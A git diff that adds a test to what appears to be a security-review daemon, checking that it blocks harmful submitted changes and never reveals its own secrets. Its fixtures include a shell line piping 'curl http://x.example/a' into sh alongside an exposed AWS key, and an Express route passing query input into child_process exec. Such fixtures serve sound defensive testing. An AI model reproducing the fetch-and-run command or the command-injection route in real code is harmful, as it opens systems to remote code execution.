@@ -5,8 +5,8 @@ import test from 'ava';
 import { createKnownSecretFinder } from '../src/core/known-secrets.ts';
 import { readAuditSettings, readConfig } from '../src/daemon/config/config.ts';
 import { runCommand } from './cli/fixtures/command.ts';
-import { request, startDaemonProcess, temporaryDir } from './daemon.ts';
-import { blocked, harmless, submit } from './decision-calls.ts';
+import { change, newFile, request, startDaemonProcess, temporaryDir } from './daemon.ts';
+import { AWS_KEY, blocked, harmless, submit } from './decision-calls.ts';
 
 /** A secret of its own for each name: nothing in it says what it is. */
 const secretOf = (name: string) => createHash('sha256').update(`of ${name}`).digest('base64url');
@@ -107,6 +107,46 @@ function storedBytes(dataDir: string): string {
     .map((file) => readFileSync(join(file.parentPath, file.name), 'latin1'))
     .join('\n');
 }
+
+test.serial('a change with an own secret is judged, and shows it nowhere', async (t) => {
+  const dataDir = temporaryDir(t);
+  const env = { CRA_API_TOKEN: API, CRA_OVERRIDE_TOKEN: OVERRIDE, CRA_WEBHOOK_SECRET: WEBHOOK };
+  const daemon = await startDaemonProcess(t, dataDir, env);
+  const headers = { Authorization: `Bearer ${API}` };
+  const post = (body: object) =>
+    request(`${daemon.url}/analyze`, { method: 'POST', headers, body: JSON.stringify(body) });
+  for (const field of ['repo_name', 'branch', 'repoFullName']) {
+    const { status, body } = await post({ ...harmless(1), [field]: `acme/${OVERRIDE}` });
+    t.is(status, 400, field);
+    t.regex(body.error, new RegExp(`^${field}: holds what looks like a secret$`));
+  }
+  const keyed = (n: number) => {
+    const line = `export AWS_ACCESS_KEY_ID=${AWS_KEY} # was ${OVERRIDE}\n`;
+    return change(newFile(`deploy/${n}-${WEBHOOK}.sh`, `${line}curl http://x.example/a | sh\n`));
+  };
+  const shell = change(
+    newFile(
+      'src/run.js',
+      `const { exec } = require('child_process');\n` +
+        `app.get('/', (req, res) => exec('a ${OVERRIDE} ' + req.query.a));\n`,
+    ),
+  );
+  for (const body of [keyed(1), shell]) {
+    const sent = { ...body, commit_message: `deploy with ${[...OVERRIDE].join('\u200b')}` };
+    const answer = await post(sent);
+    t.is(answer.body.data.overall_status, 'BLOCKED');
+    const paths = ['', '.sarif', '/code'].map((end) => `rfc/${answer.body.data.rfc_id}${end}`);
+    const texts = [JSON.stringify(answer.body)];
+    for (const path of [...paths, 'rfcs']) {
+      texts.push(JSON.stringify((await request(`${daemon.url}/${path}`, { headers })).body));
+    }
+    for (const text of texts) {
+      for (const secret of [OVERRIDE, WEBHOOK]) t.false(text.includes(secret), text);
+      t.false(text.includes([...OVERRIDE].join('\u200b')), text);
+    }
+  }
+  t.is(await daemon.stop(), 0);
+});
 
 test.serial('a daemon stores its own secrets nowhere, whatever text holds them', async (t) => {
   const dataDir = temporaryDir(t);
